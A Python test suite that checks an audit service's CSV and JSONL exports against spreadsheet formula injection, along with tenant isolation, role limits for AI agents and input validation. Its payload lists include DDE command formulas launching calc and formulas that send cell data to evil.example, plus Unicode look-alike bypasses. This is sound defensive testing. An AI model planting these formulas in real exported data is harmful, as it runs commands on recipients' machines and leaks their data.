"""Whatever people and agents write, an exported list is lines of cells and never a program."""
# ruff: noqa: RUF001 - look-alikes are what is tested

import csv
import io
import json
import unicodedata
import uuid
from itertools import product
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from counterseal.core.sheet import csv_line, csv_row, inert, json_line
from tests.abuse.world import World, declined

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"open")',
    '=IMPORTXML(CONCAT("https://evil.example?v=", A1), "//a")',
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!D2",
    "@evil",
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "＝1+1",
    "＋1",
    "－1",
    "＠evil",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫evil",
    "⁼1",
    "⁺1",
    "⁻1",
    "₌1",
    "−1+1",
    "–1+1",
    "➕1",
]
BEFORE = [
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\x00",
    "\x0b",
    "\x1f",
    "\x7f",
    "\x85",
    "\u00a0",
    "\u2003",
    "\u3000",
    "\u200b",
    "\u200e",
    "\u202e",
    "\u2060",
    "\ufeff",
    "\u00ad",
    "\u2028",
    "\U000e0020",
    '"',
    '""',
    "'",
    "`",
    "“",
    "‘",
    "«",
    "＂",
    "' ",
    '" \t',
    "\u0301",
    "\u3164",
]
INPUTS = [before + formula for formula, before in product(FORMULAS[:4], BEFORE)]
INPUTS += [before + formula for formula, before in product(FORMULAS[4:], ["", " ", '"', "\u200b"])]
INPUTS += ["\t", "\r", "\n", "\tplain", "\rplain", "\nplain", "\r\nplain", "=", "+", "-", "@"]
BREAKING = [
    'x","=1+1',
    "x,=1+1",
    "x;=1+1",
    "x\t=1+1",
    "x\n=1+1",
    "x\r=1+1",
    "x\r\n=1+1",
    "x\u2028=1+1",
    "x\u2029=1+1",
    "x\x85=1+1",
    "x\x0b=1+1",
    "x\x0c=1+1",
    "x\x1c=1+1",
    '"',
    '""',
    '"\n"',
    "x\x00y",
    "\\",
    '\\"',
    "'",
    "\ud800",
]
PLAIN = ["", "a", "refund_order", "sha256:00", "2026-01-31", "5", "a=b", "1+1", "x@y.z", "(-1)"]


def is_a_formula(cell: str) -> bool:
    """A second opinion: what any spreadsheet might take for the beginning of a formula."""
    seen = "".join(
        each
        for each in unicodedata.normalize("NFKC", cell)
        if unicodedata.category(each)[0] not in "CZM" and each not in '"`´‘’“”«»\u2800\u3164'
    )
    return cell[:1] in {"\t", "\r", "\n"} or seen[:1] in {*"=+-@−–—➕➖"}


def read_back(line: str) -> list[str]:
    (cells,) = csv.reader(io.StringIO(line, newline=""), strict=True)
    return [str(each) for each in cells]


def test_there_are_enough_of_them() -> None:
    assert len({*INPUTS, *BREAKING}) >= 160


@pytest.mark.parametrize("text", INPUTS, ids=range(len(INPUTS)))
def test_text_that_a_spreadsheet_would_run_is_marked_as_text(text: str) -> None:
    cell = inert(text)
    assert not is_a_formula(cell)
    assert cell.startswith("'")
    assert read_back(csv_line(["before", text, "after"])) == ["before", cell, "after"]


@pytest.mark.parametrize("text", [*INPUTS, *BREAKING], ids=range(len(INPUTS) + len(BREAKING)))
def test_one_record_is_one_line_whoever_reads_it(text: str) -> None:
    for line in (csv_line([text, 1]), json_line({"text": text})):
        assert len(line.splitlines()) == 1
        assert line.endswith("\n")
        assert not {*line[:-2]} & {"\r", "\n", "\x00", "\u2028", "\u2029", "\x85"}
    assert json.loads(json_line({"text": text})) == {"text": text}
    assert len(read_back(csv_line([text, "x"]))) == 2


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize("number", [0, 1, -1, -12.5, 3.0, 10**15, -0.001])
def test_numbers_stay_numbers(number: float) -> None:
    line = csv_line([number, None, True, False])
    assert line == f'{number},"","true","false"\r\n'
    assert float(read_back(line)[0]) == number


def test_a_list_is_one_cell() -> None:
    row = {"a": ["=1", "b"], "b": {"=x": 1}}
    assert read_back(csv_row(["a", "b", "none"], row)) == ["'=1; b", '{"=x":1}', ""]


@given(st.text())
def test_no_text_at_all_is_a_formula_or_breaks_out(text: str) -> None:
    cell = inert(text)
    assert not is_a_formula(cell)
    assert read_back(csv_line(["a", text, 7])) == ["a", cell, "7"]
    assert all(each == " " or each.isprintable() or each.isspace() for each in cell)


def vote_with(world: World, reason: str) -> str:
    held = world.held()
    world.ada.vote(held, approve=False, reason=reason)
    return str(held["action_id"])


@pytest.mark.parametrize("reason", [FORMULAS[4], '" =1+1\nx', "\u202e＝1", "a\x00\u2028b", "-5"])
def test_what_the_server_exports_is_inert(world: World, reason: str) -> None:
    action = vote_with(world, reason)
    asked = {"action_id": action, "format": "csv"}
    answer = world.auditor.http.get("/v1/votes", params=asked)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="votes.csv"'
    heads, cells = csv.reader(io.StringIO(answer.text, newline=""), strict=True)
    told = dict(zip(heads, cells, strict=True))
    stored = reason.replace("\x00", "\u2400")
    assert (told["reason"], told["person"]) == (inert(stored), "ada")
    assert float(told["after_hold"]) >= 0
    lines = world.auditor.http.get("/v1/votes", params={**asked, "format": "jsonl"})
    assert lines.headers["content-type"] == "application/jsonl"
    assert [json.loads(each)["reason"] for each in lines.text.splitlines()] == [stored]


LISTS = ["/v1/actions", "/v1/votes", "/v1/refusals", "/v1/bundles/history"]
SUMMARIES = ["/v1/actions/summary", "/v1/votes/summary", "/v1/refusals/summary"]
PEOPLE_ONLY = ["/v1/votes", "/v1/refusals", "/v1/bundles/history", *SUMMARIES[1:]]


@pytest.fixture(scope="module", autouse=True)
def _busy(world: World) -> None:
    """Have something in each list, so that nothing is empty for the wrong reason."""
    for _ in range(2):
        held = world.held()
        world.ada.vote(held, approve=False)
        world.grace.vote(held)
        world.cast.approvers["alan"].vote(held)


@pytest.mark.parametrize("path", [*LISTS, *SUMMARIES])
def test_a_stranger_sees_nothing_of_another_tenant(world: World, path: str) -> None:
    ours = world.auditor.http.get(path).json()
    assert ours.get("items") or ours.get("total")
    told = world.strange_auditor.http.get(path).text
    for name in ("support-agent", "ada", "grace", "alan"):
        assert f'"{name}"' not in told


@pytest.mark.parametrize("form", ["json", "jsonl", "csv"])
@pytest.mark.parametrize("path", LISTS)
def test_a_strangers_cursor_leads_nowhere_strange(world: World, path: str, form: str) -> None:
    page = world.auditor.http.get(path, params={"limit": 1}).json()
    cursor = page["next_cursor"] or ""
    asked = {"cursor": cursor, "format": form} if cursor else {"format": form}
    told = world.strange_auditor.http.get(path, params=asked)
    assert told.status_code == 200
    for name in ("support-agent", "ada", "grace", "alan"):
        assert name not in told.text


@pytest.mark.parametrize("path", LISTS)
def test_a_cursor_of_one_list_is_none_of_another(world: World, path: str) -> None:
    for other in {*LISTS} - {path}:
        page = world.auditor.http.get(other, params={"limit": 1}).json()
        if page["next_cursor"]:
            for form in ("json", "csv"):
                asked = {"cursor": page["next_cursor"], "format": form}
                declined(world.auditor.http.get(path, params=asked), "bad-cursor")


@pytest.mark.parametrize("path", PEOPLE_ONLY)
def test_agents_learn_nothing_of_people(world: World, path: str) -> None:
    declined(world.agent.http.get(path), "role-forbids")
    for who in (world.ada, world.auditor, world.operator):
        assert who.http.get(path).status_code == 200


def test_agents_list_count_and_export_their_own(world: World) -> None:
    mine = world.rival.propose("get_order").json()["action_id"]
    world.granted()
    for asked in ({}, {"agent": "support-agent"}, {"format": "csv"}, {"format": "jsonl"}):
        told = world.rival.http.get("/v1/actions", params=asked).text
        assert mine in told
        assert "support-agent" not in told
    counted = world.rival.http.get("/v1/actions/summary", params={"by": "agent"}).json()
    assert [each["agent"] for each in counted["groups"]] == ["rival-agent"]


WRONG: list[tuple[str, dict[str, Any]]] = [
    ("/v1/actions", {"format": "xlsx"}),
    ("/v1/actions", {"format": "CSV"}),
    ("/v1/actions", {"format": "csv", "limit": 501}),
    ("/v1/actions", {"risk": "extreme"}),
    ("/v1/actions", {"min_risk": ""}),
    ("/v1/actions", {"environment": "\x00"}),
    ("/v1/votes", {"hasty": "perhaps"}),
    ("/v1/votes", {"approve": "\x00"}),
    ("/v1/votes", {"channel": "\x00"}),
    ("/v1/votes", {"action_id": "x" * 129}),
    ("/v1/votes", {"code": "self-approval"}),
    ("/v1/refusals", {"hasty": "true"}),
    ("/v1/refusals", {"sender": "\x00"}),
    ("/v1/refusals", {"limit": 0}),
    ("/v1/bundles/history", {"incident": "\x00"}),
    ("/v1/bundles/history", {"rule": "x"}),
    ("/v1/actions/summary", {"by": ""}),
    ("/v1/actions/summary", {"by": "tenant"}),
    ("/v1/actions/summary", {"by": "effective,"}),
    ("/v1/actions/summary", {"by": "effective,effective"}),
    ("/v1/actions/summary", {"by": "effective;drop"}),
    ("/v1/actions/summary", {"by": "verdict,effective,risk,tool,agent"}),
    ("/v1/actions/summary", {"by": "hasty"}),
    ("/v1/actions/summary", {"limit": "5"}),
    ("/v1/votes/summary", {"by": "code"}),
    ("/v1/refusals/summary", {"by": "approver"}),
]


@pytest.mark.parametrize(("path", "asked"), WRONG, ids=range(len(WRONG)))
def test_what_cannot_be_meant_is_refused(world: World, path: str, asked: dict[str, Any]) -> None:
    declined(world.auditor.http.get(path, params=asked), "invalid-parameter")


@pytest.mark.parametrize(
    ("accept", "kind"),
    [
        ("text/csv", "text/csv"),
        ("application/jsonl", "application/jsonl"),
        ("text/html, text/csv;q=0.9", "text/csv"),
        ("*/*", "application/json"),
        ("application/json, text/csv", "application/json"),
        ("", "application/json"),
        ("x" * 4000, "application/json"),
    ],
)
def test_what_is_written_is_what_is_accepted(world: World, accept: str, kind: str) -> None:
    answer = world.auditor.http.get("/v1/actions", headers={"Accept": accept})
    assert answer.headers["content-type"].partition(";")[0] == kind


def test_the_limit_holds_for_exports_too(world: World) -> None:
    for limit in (1, 2):
        asked = {"format": "jsonl", "limit": limit}
        told = world.auditor.http.get("/v1/actions", params=asked).text
        assert len(told.splitlines()) == limit


@pytest.mark.parametrize(
    "changed",
    [
        {"because": ""},
        {"because": 1},
        {"because": "x" * 4097},
        {"incident": ""},
        {"incident": " "},
        {"incident": "x" * 129},
        {"incident": "a\nb"},
        {"incident": "a\x00b"},
        {"incident": ["INC-1"]},
        {"reason": "misspelt"},
    ],
    ids=str,
)
def test_a_reason_that_is_none_is_refused(world: World, changed: dict[str, Any]) -> None:
    files = {"bundle.yaml": f"bundle: {uuid.uuid4().hex}\nversion: '1'\n"}
    with world.adding():
        answer = world.operator.http.post("/v1/bundles", json={"files": files} | changed)
        declined(answer, "invalid-request")
